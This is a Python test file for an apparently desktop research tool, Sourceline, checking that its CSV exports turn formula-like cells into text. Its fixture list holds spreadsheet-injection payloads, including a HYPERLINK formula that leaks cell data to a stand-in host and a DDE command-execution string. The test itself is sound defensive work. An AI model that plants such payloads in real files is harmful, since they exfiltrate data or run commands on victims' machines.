"""Every CSV Sourceline writes — the evidence table and the timeline data exports, and
`sourceline events --format csv` — shows a cell that would start a spreadsheet formula as text
(a leading apostrophe), wherever the value came from: titles, descriptions, tags, entities,
locations, sources, quotes, locators."""
from __future__ import annotations

import csv
import io

import pytest

from db import citations, events, ops, sources
from db.store import create_project
from desktop_app.cli import main

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0"]


@pytest.fixture
def project(tmp_path):
    path = tmp_path / "p.sourceline"
    db = create_project(path)
    for n, formula in enumerate(FORMULAS):
        event = ops.run(db, events.add_event(formula, f"2024-11-{n + 1:02d}", description=formula, tags=[formula],
                                             entities=[formula], location_name=formula))
        source = ops.run(db, sources.add_source({"type": "webpage", "title": formula, "URL": formula,
                                                 "author": [{"family": formula}]}, "2024-11-20"))
        ops.run(db, citations.add_citation(event, source, locator=formula, quote=formula))
    db.close()
    return path


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(text: str) -> None:
    found = cells(text)
    assert any(cell.startswith("'=HYPERLINK") for cell in found)  # the values are there, made text
    starts = [cell for cell in found if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # a plain number ("-12.5") is left alone: a spreadsheet reads it as a number, not a formula
    assert all(cell.lstrip("+-").replace(".", "", 1).isdigit() for cell in starts), starts


@pytest.mark.parametrize("fmt", ["evidence", "csv"])
def test_csv_exports(project, tmp_path, fmt):
    target = tmp_path / f"{fmt}.csv"
    assert main(["export", "--db", str(project), "--format", fmt, "-o", str(target)]) == 0
    assert_no_formula(target.read_text(encoding="utf-8-sig"))


def test_the_events_command(project, capsys):
    capsys.readouterr()
    assert main(["events", "--db", str(project), "--format", "csv"]) == 0
    assert_no_formula(capsys.readouterr().out)
